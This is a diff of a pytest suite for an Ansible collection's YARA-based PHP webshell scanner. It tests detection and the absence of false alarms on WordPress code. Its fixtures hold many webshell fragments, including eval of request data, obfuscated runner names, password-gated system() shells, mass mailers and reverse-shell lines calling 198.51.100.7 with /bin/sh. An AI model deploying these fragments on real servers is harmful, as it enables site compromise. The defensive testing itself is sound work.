@@ -1,44 +1,65 @@
-"""Webshell rules: each tell is found, ordinary CMS code is not flagged."""
+"""Webshell rules: each rule finds what it is for and leaves ordinary CMS code alone."""
 
 from __future__ import annotations
 
-import re
+import os
 
 import pytest
 
-from ansible_collections.hostguard.hosting.plugins.module_utils import webshell_rules
-from ansible_collections.hostguard.hosting.plugins.module_utils.webshell_rules import (
-    CHUNK_OVERLAP,
+yara = pytest.importorskip("yara")
+
+from ansible_collections.hostguard.hosting.plugins.module_utils import webshell_rules  # noqa: E402
+from ansible_collections.hostguard.hosting.plugins.module_utils.webshell_rules import (  # noqa: E402
     LINE_LIMIT,
-    RULES,
+    RULE_SETS,
     RuleError,
     Scanner,
+    php_view,
 )
 
 WEBROOT = "/var/www/site1"
+
+
+@pytest.fixture(scope="module")
+def scanner():
+    return Scanner()
 
 
 def rule_names(findings):
     return sorted(finding.rule for finding in findings)
 
 
-def test_every_built_in_rule_is_named_described_and_compiles():
-    names = [rule["name"] for rule in RULES]
-    assert len(names) == len(set(names))
-    for rule in RULES:
-        assert rule["description"]
-        assert webshell_rules.validate_rule(rule) is rule
-        re.compile(rule["pattern"])
+def own_rules():
+    """(rule set, rule name, meta) of every rule in the collection's .yar files."""
+    externals = dict.fromkeys(webshell_rules.EXTERNALS, "")
+    found = []
+    for name in RULE_SETS:
+        compiled = yara.compile(filepath=os.path.join(webshell_rules.default_rules_dir(), name), externals=externals)
+        found.extend((name, rule.identifier, rule.meta) for rule in compiled)
+    return found
 
 
-def test_built_in_content_patterns_are_lowercase():
-    """Content is lowered once; a pattern without capitals is matched case-sensitively, the fast path."""
-    for rule in RULES:
-        if rule["target"] != "path":
-            assert rule["pattern"] == rule["pattern"].lower(), rule["name"]
-            assert all(literal == literal.lower() for literal in rule.get("gate", ())), rule["name"]
+def test_every_rule_is_documented_with_a_fragment_it_matches_and_one_it_must_not():
+    rules = own_rules()
+    assert len(rules) >= 20
+    for rule_set, name, meta in rules:
+        assert meta.get("description"), name
+        assert ("example_match" in meta and "example_no_match" in meta) or "example_path" in meta, name
 
 
+@pytest.mark.parametrize("rule_set, name, meta", own_rules(), ids=lambda value: value if isinstance(value, str) else "")
+def test_each_rule_keeps_to_its_own_examples(scanner, rule_set, name, meta):
+    path = meta.get("example_path", WEBROOT + "/x.php")
+    if "example_match" in meta:
+        assert name in rule_names(scanner.scan_bytes(path, meta["example_match"].encode())), meta["example_match"]
+        no_path = meta.get("example_no_path", path)
+        assert name not in rule_names(scanner.scan_bytes(no_path, meta["example_no_match"].encode()))
+    else:
+        assert name in rule_names(scanner.scan_bytes(meta["example_path"], b"<?php echo 1;"))
+        assert name not in rule_names(scanner.scan_bytes(meta["example_no_path"], b"<?php echo 1;"))
+
+
+# Fragments of each family of the issue, written anew: the rule must stay able to find each.
 @pytest.mark.parametrize("rule, path, content", [
     ("eval_decoded", "/x.php", b"<?php @eval(gzinflate(base64_decode('7b0HYBxJ'))); ?>"),
     ("eval_decoded", "/x.php", b"<?php EvAl ( str_rot13('riny($_CBFG[0]);') );"),
@@ -46,103 +67,219 @@ def test_built_in_content_patterns_are_lowercase():
     ("eval_request", "/x.php", b"<?php @assert($_REQUEST['x']);"),
     ("eval_request", "/x.php", b"<?php system( $_GET[\"cmd\"] );"),
     ("eval_request", "/x.php", b"<?php include $_COOKIE['page'];"),
+    # payloads in headers
+    ("eval_request", "/x.php", b"<?php eval(getenv('HTTP_X_DATA'));"),
+    ("eval_request", "/x.php", b"<?php @eval($_SERVER['HTTP_ACCEPT_TOKEN']);"),
+    ("eval_request", "/x.php", b"<?php eval(getallheaders()['X-Run']);"),
     ("request_callable", "/x.php", b"<?php $_POST['f']($_POST['a']);"),
-    ("backtick_request", "/x.php", b"<?php echo `ls -la {$_GET['d']}`;"),
-    ("preg_replace_eval", "/x.php", b"<?php preg_replace(\"/.*/e\", $_POST['c'], '');"),
+    ("request_callable", "/x.php", b"<?php $f = base64_decode('YXNzZXJ0'); $f($_POST['x']);"),
+    ("request_callable", "/x.php", b"<?php $h = getallheaders(); $h['X-F']($h['X-A']);"),
+    # request data through a variable, a parameter, extract()
+    ("request_through_variable", "/x.php", b"<?php $cmd = $_REQUEST['cmd']; system($cmd);"),
+    ("request_through_variable", "/x.php", b"<?php $c = ($_POST['c']); $d = $c; echo shell_exec($d . ' 2>&1');"),
+    ("request_through_variable", "/x.php", b"<?php function run($c) { passthru($c); } run($_GET['c']);"),
+    ("request_through_variable", "/x.php", b"<?php extract($_REQUEST); @die($ctime($atime));"),
+    # runner names hidden in pieces, decoded, reversed, replaced
+    ("hidden_runner_name", "/x.php", b"<?php $f = 'as' . 'se' . 'rt'; $f($x);"),
+    ("hidden_runner_name", "/x.php", b"<?php $f = chr(97).chr(115).chr(115).chr(101).chr(114).chr(116); $f($x);"),
+    ("hidden_runner_name", "/x.php", b"<?php $k = str_replace('#', '', 'a#s#s#e#r#t'); $k($v);"),
+    ("hidden_runner_name", "/x.php", b"<?php $a = strrev('tressa'); $a($b);"),
+    ("hidden_runner_name", "/x.php", b"<?php $g = $_COOKIE['n'] . 'ert'; $g($p);"),
+    ("hidden_runner_name", "/x.php", b"<?php (base64_decode('c3lzdGVt'))($x);"),
+    # callbacks
+    ("runner_as_callback", "/x.php", b"<?php call_user_func('assert', $_POST['c']);"),
+    ("runner_as_callback", "/x.php", b"<?php register_shutdown_function('as'.'sert', $c);"),
+    ("runner_as_callback", "/x.php", b"<?php call_user_func_array(assert, array($_POST['x']));"),
+    ("runner_as_callback", "/x.php", b"<?php ob_start(function ($c) { eval($c); }); echo $_REQUEST['p'];"),
+    ("string_xor", "/x.php", b"<?php $f = ('#&;' ^ 'BUH'); $f($x);"),
+    # Godzilla, Behinder, antSword
+    ("encrypted_payload_runner", "/x.php",
+     b"<?php class K { function __invoke($p) { eval($p.\"\"); } } call_user_func(new K(), $d);"),
+    ("encrypted_payload_runner", "/x.php",
+     b"<?php session_start(); function x($d,$k){for($i=0;$i<strlen($d);$i++){$d[$i]=$d[$i]^$k[$i+1&15];}"
+     b"return $d;} $p = x($_SESSION['load'], $key); eval($p);"),
+    ("known_shell_string", "/x.php",
+     b"<?php @ini_set(\"display_errors\", \"0\");@set_time_limit(0);$opdir=@ini_get(\"open_basedir\");"),
     ("preg_replace_eval", "/x.php", b"<?php preg_replace('#x#ie', 'system(\"id\")', 'x');"),
-    ("create_function", "/x.php", b"<?php $f = create_function('', $code); $f();"),
-    ("split_function_name", "/x.php", b"<?php $a = \"as\" . \"se\".'rt'; $a($x);"),
-    ("split_function_name", "/x.php", b"<?php $f = 'base64' . '_' . 'decode';"),
-    ("chr_concatenation", "/x.php", b"<?php $f = chr(101).chr(118).chr(97).chr(108).chr(40).chr(36);"),
+    ("create_function_code", "/x.php", b"<?php $f = create_function('', $code); $f();"),
+    # escaped include of a non-PHP file
+    ("include_non_php_file", "/x.php", b"<?php @include \"\\057home\\057u\\057www\\057favicon_1a3f84.ico\";"),
+    ("include_escaped_path", "/x.php", b"<?php @include \"\\x2fh\\x6fme/u/www/favicon_1a3f84.ico\";"),
+    # reverse shells, uploaders, mass mailers
+    ("reverse_shell", "/x.php", b"<?php $s = fsockopen('198.51.100.7', 1337); exec('/bin/sh -i <&3 >&3 2>&3');"),
+    ("reverse_shell", "/x.php", b"<?php $sock = stream_socket_client('tcp://198.51.100.7:9001'); proc_open('/bin/bash', $d, $p);"),
+    ("request_file_writer", "/x.php", b"<?php copy($_FILES['u']['tmp_name'], $_FILES['u']['name']);"),
+    ("request_file_writer", "/x.php", b"<?php file_put_contents($_GET['f'], $_POST['d']);"),
+    ("upload_page", "/up.php",
+     b"<form enctype='multipart/form-data' method='post'><input type='file' name='f'></form>"
+     b"<?php if ($f) { copy($f, \"./$f_name\"); } ?>"),
+    ("mass_mailer", "/x.php", b"<?php mail($_POST['to'], $_POST['s'], $_POST['b']);"),
+    ("mass_mailer", "/m.php",
+     b"<textarea name=emails></textarea><?php foreach (explode(\"\\n\", $emails) as $to) { mail($to, $s, $b); } ?>"),
+    ("password_protected_shell", "/x.php",
+     b"<?php if ('5f4dcc3b5aa765d61d8327deb882cf99' === md5($_POST['p'])) { system($_POST['c']); }"),
+    ("web_command_form", "/x.php", b"<form><input name=cmd></form><? if ($cmd) { passthru($cmd); } ?>"),
+    ("backtick_request", "/x.php", b"<?php echo `ls -la {$_GET['d']}`;"),
+    ("request_callable", "/x.php", b"<?php $q = $_GET[1]; file_get_contents('php' . $q)($_GET[2]);"),
+    ("request_callable", "/x.php", b"<?php $i['w'] = 'x'; $a[] = $i; $a[0]['w']($_POST['k']);"),
+    ("hidden_runner_name", "/x.php", b"<?php $_ = $x; $__ = $y; $_($__);"),
+    ("runner_as_callback", "/x.php", b"<?php $e = $_REQUEST['e']; array_filter(array($_POST['p']), base64_decode($e));"),
+    ("runner_as_callback", "/x.php", b"<?php $r = join(array_diff($a, $b)); array_map($r, (array) $_REQUEST['1']);"),
+    ("runner_as_callback", "/x.php", b"<?php $c = explode('.', $s); array_intersect_ukey($a, $b, $c[1] . $c[3]);"),
+    ("preg_replace_eval", "/x.php", b"<?php mb_eregi_replace('\\d', $_REQUEST['x'], '1', 'e');"),
+    ("superglobal_by_name", "/x.php", b"<?php foreach (array('_POST') as $r) { foreach ($$r as $k => $v) { $$k = $v; } }"),
+    ("many_piece_code", "/x.php", b"<?php $a = strrev($a); @assert($a . $b);"),
+    ("many_piece_code", "/x.php", b"<?php function x() { return $_POST['a']; } eval(x());"),
+    ("request_path_access", "/x.php", b"<?php $f = $_GET['file']; readfile($f);"),
+    ("request_file_writer", "/x.php", b"<?php copy($HTTP_POST_FILES['u']['tmp_name'], $_POST['remotefile']);"),
+    ("backtick_request", "/x.php", b"<?=`$_GET[_]`?>"),
+    ("eval_decoded", "/x.php", b"<?php eval(pack('H*', $e->getMessage()));"),
+    ("runner_as_callback", "/x.php", b"<?php @array_diff_ukey(@array($_REQUEST['p'] => 1), array(2), $_REQUEST['f']);"),
+    ("hidden_runner_name", "/x.php", b"<?php $c = 'chr'; $code = $c(101) . $c(118) . $c(97) . $c(108) . $c(40);"),
+    ("hidden_runner_name", "/x.php", b"<?php $r = str_replace('q', '', 'qsqtr_qreplqace'); $d = $r('k', '', 'kbase64_kdecode'); $d($x);"),
+    ("many_piece_code", "/x.php", b"<?php $f = $s['k']; eval($f($g));"),
+    ("encoded_code", "/x.php", b"<?php $p = 'ZXZhbCgkX1BPU1RbJ2MnXSk7'; $q = $dec($p);"),
+    ("encoded_code", "/x.php", b"<?php throw new Exception('2476616c75653d656e6428245f504f5354293b');"),
+    ("self_deleting_runner", "/x.php",
+     b"<?php unlink(__FILE__); ignore_user_abort(); set_time_limit(0); while (1) { file_put_contents($f, $shell); sleep(9); }"),
+    ("xslt_php_runner", "/x.php",
+     b"<?php $xsl = '<xsl:value-of select=\"php:functionString(\\'system\\', $c)\"/>'; $p->registerPHPFunctions();"),
+    ("request_file_writer", "/up.php", b"<? move_uploaded_file($userfile, 'entrika.php'); ?>"),
+    ("request_path_access", "/x.php", b"<?php copy('compress.zlib://' . $file, $temp);"),
+    ("eval_request", "/x.txt", b"<!--\n/* banner\n<?php @$out = system($_POST['command']); ?>"),
+    # PHP where no PHP should be
     ("php_after_image_magic", "/logo.gif", b"GIF89a<?php system($c); ?>"),
     ("php_after_image_magic", "/photo.jpg", b"\xff\xd8\xff\xe0\x00\x10JFIF\x00" + b"\x00" * 64 + b"<?PHP phpinfo();"),
-    ("php_after_image_magic", "/a.png", b"\x89PNG\r\n\x1a\n\x00\x00<?php echo 1;"),
-    ("md5_password", "/x.php", b"<?php if (md5($_POST['pass']) == '5f4dcc3b5aa765d61d8327deb882cf99') { }"),
-    ("md5_password", "/x.php", b"<?php if ('5f4dcc3b5aa765d61d8327deb882cf99' === md5($p)) { }"),
-    ("known_shell_string", "/x.php", b"<?php $default_action = 'FilesMan';"),
-    ("known_shell_string", "/x.php", b"<?php /* b374k shell 3.2.3 */"),
-    ("known_shell_string", "/x.php", b"<?php define('WSO_VERSION', '2.5');"),
-    ("known_shell_name", WEBROOT + "/c99.php", b"<?php echo 1;"),
-    ("known_shell_name", WEBROOT + "/lib/r57shell.php", b"<?php echo 1;"),
+    ("php_after_image_magic", "/a.png", b"\x89PNG\r\n\x1a\n\x00\x00<? echo 1;"),
+    ("php_in_image_file", "/favicon_1a3f84.ico", b"<?php @eval($_POST['x']); ?>"),
     ("known_shell_name", WEBROOT + "/b374k-3.2.phtml", b"<?php echo 1;"),
-    ("php_in_upload_dir", WEBROOT + "/wp-content/uploads/2024/05/cache.php", b"<?php echo 1;"),
     ("php_in_upload_dir", WEBROOT + "/sites/default/files/x.phtml", b"<?php echo 1;"),
 ])
-def test_each_tell_is_found(rule, path, content):
-    findings = Scanner().scan_bytes(path, content)
-    assert rule in rule_names(findings)
+def test_each_family_is_found(scanner, rule, path, content):
+    assert rule in rule_names(scanner.scan_bytes(path, content))
 
 
+# The false alarms of the issue and ordinary CMS code: no rule may fire.
 @pytest.mark.parametrize("path, content", [
     ("/wp-includes/class-wp.php", b"<?php $data = base64_decode( $encoded ); $r = curl_exec( $ch );"),
     ("/wp-includes/x.php", b"<?php $this->system_info(); $key = 'wp_' . 'nonce'; $s = 'ev' . 'ent';"),
-    ("/wp-includes/pluggable.php", b"<?php $hash = md5( $user->user_login ); if ( md5( $x ) ) {}"),
+    # md5 of request data with no comparison against a fixed hash
+    ("/wp-includes/pluggable.php", b"<?php $hash = md5( $_POST['log'] ); if ( md5( $x ) ) {}"),
     ("/wp-includes/formatting.php", b"<?php return preg_replace( '/[^a-z0-9_\\-]/', '', $key );"),
-    ("/wp-includes/x.php", b"<?php $s = chr( 65 ) . chr( 66 );"),
-    ("/wp-content/plugins/forms/uploader.php", b"<?php echo esc_html( $_GET['page'] );"),
+    # chr() tables in a stemmer
+    ("/lib/stemmer.php", b"<?php $vowels = array(chr(97), chr(101), chr(105), chr(111), chr(117), chr(121));"),
+    # backticks and include/require in comments and docblocks
+    ("/wp-includes/rest.php",
+     b"<?php\n/**\n * Reads `$_POST` and passes it to `system()`; include the file\n"
+     b" * before you require `$_GET['x']`.\n */\nfunction f() { return 1; }"),
+    ("/lib/x.php", b"<?php // eval($_POST['x']) was removed here\n# system($_GET['c']);\necho 1;"),
+    # CMS core directories called upload
+    ("/wp-admin/includes/upload/handler.php", b"<?php echo esc_html( $_GET['page'] );"),
+    ("/administrator/components/com_media/upload.php", b"<?php $file = $input->files->get('Filedata');"),
     ("/assets/app.js", b"eval(atob(payload)); document.write($_GET);"),
     ("/wp-content/uploads/2024/05/photo.jpg", b"\xff\xd8\xff\xe0\x00\x10JFIF" + b"\x00" * 64 + b"<?xpacket begin='' ?>"),
     ("/readme.txt", b"This plugin mentions eval( base64_decode in its changelog."),
+    ("/wp-includes/class-phpass.php", b"<?php $plugin = $_REQUEST['plugin']; include WP_PLUGIN_DIR . '/' . $plugin;"),
+    ("/wp-includes/query.php", b"<?php $q = array( 'include' => $_GET['ids'], 'exclude' => array() );"),
+    ("/lib/utils.php", b"<?php $value = $_GET['v']; $out = shell_exec($command); $db->exec($value);"),
+    ("/lib/mail.php", b"<?php $to = get_option('admin_email'); mail($to, 'Contact', $_POST['message']);"),
+    ("/lib/cipher.php", b"<?php for ($i = 0; $i < $n; $i++) { $out[$i] = $text[$i] ^ $key[$i + 1 & 15]; }"),
+    ("/lib/http.php", b"<?php $fp = fsockopen('ssl://api.wordpress.org', 443); fwrite($fp, $req);"),
+    ("/lib/sort.php", b"<?php uasort( $nodes, static function ( $a, $b ) { return ( $a['f'] . $a['n'] ) <=> $b['f']; } );"),
+    ("/lib/kses.php", b"<?php array_unshift( $attrarr, $begin . $slash . $elname );"),
+    ("/lib/table.php", b"<?php Table::moveCopy( $db, $table, $_POST['newname'] );"),
+    ("/lib/id.php", b"<?php $id = (int)($_GET['id']); $rows = array_map( 'intval', $_POST['ids'] );"),
+    ("/lib/assert.php", b"<?php assert( is_array( $items ) ); eval( '?>' . $template );"),
 ])
-def test_ordinary_code_is_not_flagged(path, content):
-    assert Scanner().scan_bytes(WEBROOT + path, content) == []
+def test_ordinary_code_is_not_flagged(scanner, path, content):
+    assert scanner.scan_bytes(WEBROOT + path, content) == []
 
 
-def test_a_rule_is_reported_once_per_file_with_its_first_line():
-    content = b"<?php\n// ok\n@eval(base64_decode('a'));\n@eval(base64_decode('b'));\n"
-    findings = [f for f in Scanner().scan_bytes("/x.php", content) if f.rule == "eval_decoded"]
-    assert len(findings) == 1
-    assert findings[0].line_number == 3
-    assert findings[0].line == "@eval(base64_decode('a'));"
+def test_short_open_tags_and_php_in_text_files_are_php():
+    view_rules = Scanner()
+    assert "eval_request" in rule_names(view_rules.scan_bytes("/notes.txt", b"<? @eval($_POST['z']); ?>"))
+    assert "eval_request" in rule_names(view_rules.scan_bytes("/x.txt", b"<html>\n<?\nsystem($_GET['c']);\n?>"))
 
 
-def test_a_tell_straddling_two_chunks_is_found_with_its_line_number():
-    filler = b"<?php\n" + b"// filler line\n" * 70000
+def test_the_php_view_drops_comments_keeps_lines_and_folds_pieces():
+    view = php_view(b"<?php\n/* a\n b */ $a = 'ev'.'al'; // x\n$u = \"\\x61\\163\"; $c = chr(65).chr(66);"
+                    b" $r = strrev('tressa'); $s = 'http://x' . \"#y\";")
+    assert view.count(b"\n") == 3
+    assert b"$a = 'eval';" in view
+    assert b"$u = \"as\";" in view
+    assert b"$c = 'AB';" in view
+    assert b"$r = 'assert';" in view
+    assert b"'http://x'" in view and b"//" not in view.replace(b"http://", b"")
+
+
+def test_html_outside_php_blocks_is_left_alone():
+    view = php_view(b"<p>don't /* stop</p><?php /* gone */ $a = 1; // gone\n?><p>it's // here</p>")
+    assert view == b"<p>don't /* stop</p><?php   $a = 1;  \n?><p>it's // here</p>"
+
+
+def test_request_data_is_followed_through_variables():
+    view = php_view(b"<?php $a = $_GET['a']; $b = trim($a); system($b);")
+    assert b"system($b\x02)" in view
+
+
+def test_a_finding_names_its_rule_line_and_excerpt(scanner):
+    content = b"<?php\n// ok\n$cmd = $_GET['c'];\n\nsystem($cmd);\n"
+    (finding,) = [f for f in scanner.scan_bytes("/x.php", content) if f.rule == "request_through_variable"]
+    assert finding.line_number == 5
+    assert finding.line == "system($cmd);"
+    assert finding.description
+
+
+def test_a_tell_far_into_a_big_file_is_found_with_its_line_number(scanner, monkeypatch):
+    monkeypatch.setattr(webshell_rules, "WINDOW", 1 << 16)
+    monkeypatch.setattr(webshell_rules, "WINDOW_OVERLAP", 1 << 12)
+    filler = b"<?php\n" + b"$x = 1;\n" * 20000
     content = filler + b"@eval(base64_decode('x'));\n"
-    cut = len(filler) + 6  # inside the call
-    scan = Scanner().content_scan("/big.php")
-    scan.feed(content[:cut])
-    scan.feed(content[cut:])
+    scan = scanner.content_scan("/big.php")
+    for start in range(0, len(content), 5000):
+        scan.feed(content[start:start + 5000])
     (finding,) = [f for f in scan.findings if f.rule == "eval_decoded"]
     assert finding.line_number == filler.count(b"\n") + 1
     assert finding.line == "@eval(base64_decode('x'));"
 
 
-def test_an_open_tag_seen_in_an_earlier_chunk_makes_later_chunks_php():
-    scan = Scanner().content_scan("/notes.txt")
-    scan.feed(b"<?php\n" + b"x" * (2 * CHUNK_OVERLAP))
-    scan.feed(b"\n$_POST['f']($_POST['a']);\n")
-    assert rule_names(scan.findings) == ["request_callable"]
-
-
-def test_a_long_obfuscated_line_is_trimmed():
+def test_a_long_obfuscated_line_is_trimmed(scanner):
     content = b"<?php " + b"$a='x';" * 5000 + b"eval(base64_decode($p));" + b"$b='y';" * 5000
-    (finding,) = [f for f in Scanner().scan_bytes("/x.php", content) if f.rule == "eval_decoded"]
+    (finding,) = [f for f in scanner.scan_bytes("/x.php", content) if f.rule == "eval_decoded"]
     assert len(finding.line) <= LINE_LIMIT
     assert "eval(base64_decode(" in finding.line
 
 
-def test_local_rules_are_added_to_the_built_in_ones():
-    local = {"name": "mailer", "description": "mass mailer", "pattern": r"mail\s*\(\s*\$_POST"}
-    findings = Scanner([local]).scan_bytes("/x.php", b"<?php mail($_POST['to'], 'hi', $body);")
-    assert rule_names(findings) == ["mailer"]
-    path_rule = {"name": "tmp_dir_php", "target": "path", "pattern": r"/tmp/[^/]+\.php$"}
-    assert rule_names(Scanner([path_rule]).scan_path(WEBROOT + "/tmp/x.php")) == ["tmp_dir_php"]
+def test_users_rule_files_get_the_external_variables(tmp_path):
+    rules = tmp_path / "site.yar"
+    rules.write_text(
+        'rule mailer_here { strings: $m = /mail\\s*\\(\\s*\\$_POST/ nocase '
+        'condition: $m and extension == ".php" and filename == "send.php" and filepath contains "/www/" '
+        'and filetype == "php" }\n')
+    found = Scanner([str(tmp_path)]).scan_bytes("/var/www/send.php", b"<?php mail($_POST['to'], 'x', 'y');")
+    assert "mailer_here" in rule_names(found)
 
 
-@pytest.mark.parametrize("rule, message", [
-    ({"name": "broken", "pattern": "eval("}, "webshell rule broken: pattern 'eval(' is not a valid regular expression"),
-    ({"name": "eval_decoded", "pattern": "x"}, "webshell rule name eval_decoded is used twice"),
-    ({"name": "odd", "pattern": "x", "target": "header"}, "webshell rule odd: target 'header' is not one of"),
-    ({"name": "odd", "pattern": "x", "scope": "all"}, "webshell rule odd: scope 'all' is not one of"),
-    ({"pattern": "x"}, "has no name"),
-    ({"name": "empty"}, "webshell rule empty has no pattern"),
-    ({"name": "split", "pattern": "x", "target": "split_string"}, "webshell rule split: target split_string needs words"),
-])
-def test_a_malformed_local_rule_is_refused_by_name(rule, message):
+def test_a_broken_user_rule_file_is_named_with_its_line(tmp_path):
+    broken = tmp_path / "broken.yar"
+    broken.write_text("rule ok { condition: true }\nrule broken { strings: $a = \"x\" condition: $b }\n")
     with pytest.raises(RuleError) as raised:
-        Scanner([rule])
-    assert message in str(raised.value)
+        Scanner([str(broken)])
+    assert str(broken) in str(raised.value)
+    assert "(2)" in str(raised.value)
+
+
+def test_a_missing_rule_file_or_rules_dir_is_named(tmp_path):
+    with pytest.raises(RuleError, match="rule file /nonexistent.yar does not exist"):
+        Scanner(["/nonexistent.yar"])
+    with pytest.raises(RuleError, match="php_content.yar is missing"):
+        Scanner(rules_dir=str(tmp_path))
+
+
+def test_without_yara_the_package_is_named(monkeypatch):
+    monkeypatch.setitem(__import__("sys").modules, "yara", None)
+    with pytest.raises(RuleError, match="python3-yara"):
+        Scanner()
 
 
 def test_allow_list_is_by_sha256():
@@ -151,3 +288,28 @@ def test_allow_list_is_by_sha256():
     assert scanner.allowed(digest.lower())
     assert not scanner.allowed("cd" * 32)
     assert not scanner.allowed(None)
+
+
+# Debian's wordpress package: installed, or unpacked by benchmarks/detection_bench.py.
+WORDPRESS_TREES = [path for path in ("/usr/share/wordpress",
+                                     "/var/tmp/hostguard-bench/detection/clean-debian/wordpress/usr/share/wordpress")
+                   if os.path.isdir(path)]
+
+
+@pytest.mark.skipif(not WORDPRESS_TREES, reason="Debian's wordpress package is neither installed nor unpacked by "
+                                                "benchmarks/detection_bench.py")
+def test_debians_wordpress_tree_has_no_finding(scanner):
+    scanned = 0
+    findings = {}
+    for directory, _dirs, names in os.walk(WORDPRESS_TREES[0]):
+        for name in names:
+            path = os.path.join(directory, name)
+            if os.path.islink(path) or not os.path.isfile(path):
+                continue
+            with open(path, "rb") as handle:
+                found = scanner.scan_bytes(path, handle.read())
+            scanned += 1
+            if found:
+                findings[path] = rule_names(found)
+    assert scanned > 1000
+    assert findings == {}
